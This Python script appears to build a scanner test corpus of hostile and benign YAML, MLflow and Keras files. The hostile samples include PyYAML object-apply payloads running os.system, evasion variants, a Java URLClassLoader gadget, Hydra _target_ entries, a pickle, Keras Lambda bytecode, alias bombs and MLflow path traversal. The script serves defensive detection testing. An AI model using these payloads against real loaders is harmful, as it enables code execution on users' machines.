"""Configurations in YAML: by PyYAML, of MLflow as its documentation shows them, and architectures as Keras 2 wrote them."""

import sys

sys.path.append(sys.path.pop(0))  # files beside this one are called like libraries

import base64
import json
import marshal
import platform

import yaml

from manifest import Family

family = Family("yaml", {"python": platform.python_version(), "PyYAML": yaml.__version__})

TAG = ["yaml/tag", "critical"]
TOUCH = "touch \"$HORNGATE_CANARY\""


def hostile(name, text, cause, *expect, ending=".yaml", **more):
    family.hostile(f"yaml-{name}", f"{name}{ending}", text.encode() if isinstance(text, str) else text, cause, list(expect), **more)


def benign(name, text, ending=".yaml"):
    family.benign(f"yaml-{name}", f"{name}{ending}", text.encode() if isinstance(text, str) else text)


hostile("object-apply", f"a: !!python/object/apply:os.system ['{TOUCH}']\n", "tag builds an object", TAG, advisory="CVE-2020-14343", loader="yaml")
hostile("object-apply-block", f"a:\n  - b: !!python/object/apply:subprocess.Popen\n      args: [['sh', '-c', '{TOUCH}']]\n", "tag builds an object", TAG, loader="yaml")
hostile("object-new", f"!!python/object/new:os.system ['{TOUCH}']\n", "tag builds an object", TAG, advisory="CVE-2020-1747", loader="yaml")
hostile("verbatim-tag", f"a: !<tag:yaml.org,2002:python/object/apply:os.system> ['{TOUCH}']\n", "tag by its whole name", TAG, loader="yaml")
hostile("tag-handle", f"%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:os.system ['{TOUCH}']\n", "tag by a handle", TAG, loader="yaml")
hostile("primary-handle", f"%TAG ! tag:yaml.org,2002:python/object/\n---\na: !apply:os.system ['{TOUCH}']\n", "tag by a handle", TAG, loader="yaml")
hostile("escaped-tag", f"a: !!python%2Fobject%2Fapply:os.system ['{TOUCH}']\n", "escaped tag", TAG, loader="yaml")
hostile("flow", f"{{a: [1, {{b: !!python/object/apply:os.system ['{TOUCH}']}}]}}\n", "tag in an inner place", TAG, loader="yaml")
hostile("key", f"? !!python/object/apply:os.system ['{TOUCH}']\n: 1\n", "tag in a key", TAG, ["scan/unread", "medium"], loader="yaml")
hostile("anchor", f"a: &x !!python/object/apply:os.system ['{TOUCH}']\nb: *x\n", "tag behind an anchor", TAG, loader="yaml")
hostile("name", "f: !!python/name:builtins.eval\n", "tag names a function", TAG)
hostile("module", "m: !!python/module:os\n", "tag names a module", TAG)
hostile("second-document", f"a: 1\n---\nb: !!python/object/apply:os.system ['{TOUCH}']\n", "tag in another document", TAG)
hostile("behind-error", f"a: !!python/object/apply:os.system ['{TOUCH}']\nb: [\n", "finding lost in an error", TAG, ["yaml/structure", "medium"])
hostile("before-error", f"a: b: c\nd: !!python/object/apply:os.system ['{TOUCH}']\n", "finding lost in an error", TAG, ["yaml/structure", "medium"])
hostile("ruby", "a: !ruby/object:Gem::Installer\n  i: x\n", "tag of another language", TAG)
hostile("java", "a: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ['http://example.org/']]]]\n", "tag of another language", TAG)
hostile("application-tag", "a: !Loader {path: x}\n", "tag of an application", ["yaml/tag", "medium"])
hostile("billion-laughs", "".join(f"a{n}: &a{n} [{', '.join(['x' if n == 0 else f'*a{n - 1}'] * 9)}]\n" for n in range(10)), "aliases without measure", ["yaml/alias", "high"])
hostile("recursive", "a: &a [*a]\n", "value in itself", ["yaml/alias", "high"])
hostile("duplicate-key", "loader: plain\nloader: other\n", "duplicate key", ["yaml/duplicate-key", "high"])
hostile("depth", "a: " + "[" * 500 + "]" * 500 + "\n", "nesting without end", ["scan/limit", "high"])
hostile("hydra-target", f"model:\n  _target_: os.system\n  _args_: ['{TOUCH}']\n", "Hydra target", ["config/hydra-target", "high"], advisory="CVE-2025-23304")
hostile("hydra-nested", "a:\n  b:\n  - c: {_target_: builtins.eval, x: 1}\n", "Hydra target", ["config/hydra-target", "high"])
hostile("is-a-pickle", b"\x80\x04\x8c\x02os\x8c\x06system\x93\x8c\x18" + TOUCH.encode() + b"\x85R.", "extension decides", ["pickle/unlisted-call", "critical"], ["scan/extension", "medium"], loader="pickle")

LAYER = {"class_name": "Dense", "config": {"activation": "relu", "activity_regularizer": None, "bias_constraint": None, "bias_initializer": {"class_name": "Zeros", "config": {}}, "bias_regularizer": None, "dtype": "float32", "kernel_constraint": None, "kernel_initializer": {"class_name": "GlorotUniform", "config": {"seed": None}}, "kernel_regularizer": None, "name": "dense", "trainable": True, "units": 2, "use_bias": True}}


def architecture(*layers):
    first = {"class_name": "InputLayer", "config": {"batch_input_shape": (None, 4), "dtype": "float32", "name": "x", "sparse": False}}
    return {"backend": "tensorflow", "class_name": "Sequential", "config": {"layers": [first, *layers], "name": "sequential"}, "keras_version": "2.4.0"}


def layer(name, **config):
    return {"class_name": name, "config": {"dtype": "float32", "name": name.lower(), "trainable": True, **config}}


LAMBDA = compile("lambda x: __import__('os').system('touch $HORNGATE_CANARY')", "<lambda>", "eval").co_consts[0]
CODE = base64.encodebytes(marshal.dumps(LAMBDA)).decode()
hostile("keras-tag", yaml.dump(architecture()).replace("name: sequential", f"name: !!python/object/apply:os.system ['{TOUCH}']"), "tag builds an object", TAG, ["keras/field-type", "medium"], advisory="CVE-2021-37678", loader="yaml")
hostile("keras-lambda", yaml.dump(architecture(layer("Lambda", function=(CODE, None, None), function_type="lambda", module="__main__", output_shape=None, output_shape_type="raw", output_shape_module=None, arguments={}))), "Lambda layer", ["keras/code-class", "critical"], ["keras/lambda-bytecode", "critical"], advisory="CVE-2024-3660")
hostile("keras-unknown-class", yaml.dump(architecture(layer("Evil"))), "class of its author", ["keras/unknown-class", "high"])


def mlmodel(more=None, **flavor):
    base = {"env": {"conda": "conda.yaml", "virtualenv": "python_env.yaml"}, "loader_module": "mlflow.sklearn", "model_path": "model.pkl", "predict_fn": "predict", "python_version": "3.11.7"}
    flavors = {"python_function": {**base, **flavor}, **(more or {"sklearn": {"code": None, "pickled_model": "model.pkl", "serialization_format": "cloudpickle", "sklearn_version": "1.5.0"}})}
    return yaml.safe_dump({"artifact_path": "model", "flavors": flavors, "mlflow_version": "2.15.1", "model_size_bytes": 100, "model_uuid": "0123", "run_id": "abc", "signature": {"inputs": '[{"type": "double", "required": true}]', "outputs": None, "params": None}, "utc_time_created": "2024-08-01 12:00:00.000000"})


def mlflow(name, cause, *expect, **flavor):
    hostile(f"mlflow-{name}", mlmodel(**flavor), cause, *expect, ending=".MLmodel")


mlflow("loader", "module by name", ["mlflow/loader-module", "critical"], loader_module="my_loader")
mlflow("loader-of-the-library", "module by name", ["mlflow/loader-module", "critical"], loader_module="mlflow.projects._project_spec")
mlflow("loader-os", "module by name", ["mlflow/loader-module", "critical"], loader_module="os")
mlflow("keras-module", "module by name", ["mlflow/loader-module", "critical"], more={"keras": {"keras_module": "evil", "keras_version": "2.4.0"}})
mlflow("code", "custom code", ["mlflow/code", "medium"], code="code")
mlflow("python-model", "custom code", ["mlflow/code", "medium"], loader_module="mlflow.pyfunc.model", python_model="python_model.pkl", cloudpickle_version="3.0.0", model_path=None)
mlflow("code-model", "custom code", ["mlflow/code", "medium"], loader_module="mlflow.pyfunc.loaders.code_model", model_code_path="model.py")
mlflow("path-up", "path leads out", ["mlflow/path", "high"], model_path="../../other/model.pkl")
mlflow("path-absolute", "path leads out", ["mlflow/path", "high"], model_path="/tmp/model.pkl")
mlflow("artifact-path", "path leads out", ["mlflow/path", "high"], artifacts={"a": {"path": "../../../etc/passwd", "uri": "x"}})
mlflow("environment", "path leads out", ["mlflow/path", "high"], env={"conda": "/etc/conda.yaml"})
hostile("mlflow-tag", mlmodel().replace("predict_fn: predict", "predict_fn: !!python/name:os.system"), "tag names a function", TAG, ending=".MLmodel")

VALUES = {"name": "x", "numbers": [1, 2.5, -3, 1e30, True, None], "text": "eval( and import os: are # words\nof two lines\n", "inner": {"list": [[1, 2], {"a": "b"}], "empty": [{}, []]}, "words": ["!!python/object/apply:os.system", "*a", "&b", "_target_", "yes", "0x10", "- x"]}
benign("plain", yaml.safe_dump(VALUES))
benign("plain-flow", yaml.safe_dump(VALUES, default_flow_style=True))
benign("quoted", yaml.safe_dump(VALUES, default_style='"'))
benign("marked", yaml.safe_dump(VALUES, explicit_start=True, explicit_end=True, indent=4, width=30))
benign("several", yaml.safe_dump_all([VALUES, {"b": 2}, [1, 2]]), ending=".yml")
shared = {"lr": 0.1}
benign("aliases", yaml.safe_dump({"a": shared, "b": shared, "c": [shared, shared]}))
benign("comments", "# !!python/object/apply:os.system [id]\nname: x # eval(\nlist:   # of things\n- a\n\n- b\n")
benign("block-texts", "script: |\n  import os\n  os.system('ls')\n  x: !!python/name:eval\nfolded: >-\n  some words\n  and more\nlast: 1\n")
benign("core-tags", "a: !!str 1\nb: !!int \"2\"\nc: !!float 3\nd: !!seq [1]\ne: !!map {a: b}\nf: !!set {a, b}\ng: !!binary aGVsbG8=\n")
benign("merge", "base: &base\n  lr: 0.1\n  steps: 10\nrun:\n  <<: *base\n  steps: 20\n")
benign("conda", yaml.safe_dump({"channels": ["conda-forge"], "dependencies": ["python=3.11.7", "pip<=23.2.1", {"pip": ["mlflow==2.15.1", "numpy==1.26.4"]}], "name": "mlflow-env"}))
benign("python-env", yaml.safe_dump({"python": "3.11.7", "build_dependencies": ["pip==23.2.1", "setuptools"], "dependencies": ["-r requirements.txt"]}))
benign("requirements", "mlflow==2.15.1\nnumpy>=1.26 # eval(\n--extra-index-url https://example.org/simple\n", ending=".txt")
benign("mlmodel", mlmodel(), ending=".MLmodel")
benign("mlmodel-keras", mlmodel(more={"tensorflow": {"code": None, "data": "data", "keras_version": "2.15.0", "model_type": "keras", "save_format": "tf"}}, loader_module="mlflow.tensorflow", data="data", model_path=None), ending=".MLmodel")
benign("mlmodel-onnx", mlmodel(more={"onnx": {"code": None, "data": "model.onnx", "onnx_version": "1.16.0", "providers": ["CPUExecutionProvider"]}}, loader_module="mlflow.onnx", data="model.onnx", model_path=None), ending=".MLmodel")
benign("keras-architecture", yaml.dump(architecture(LAYER)))
benign("keras-architecture-safe", yaml.safe_dump(json.loads(json.dumps(architecture(LAYER)))), ending=".yml")
benign("mergekit", "models:\n  - model: someone/a\n    parameters:\n      weight: 0.5\n  - model: someone/b\nmerge_method: linear\ndtype: float16\n", ending=".yml")
benign("model-card", "---\nlicense: mit\ntags:\n- x\nmodel-index:\n- name: a\n---\n\n# Model: `!!python/object/apply:os.system`\n\nKeys: values, and *stars*.\n", ending=".md")
benign("licence", "Copyright: somebody\nPermission is hereby granted: do what you like, but\n  keep this text: it matters.\nThe end\n", ending=".txt")

family.write()
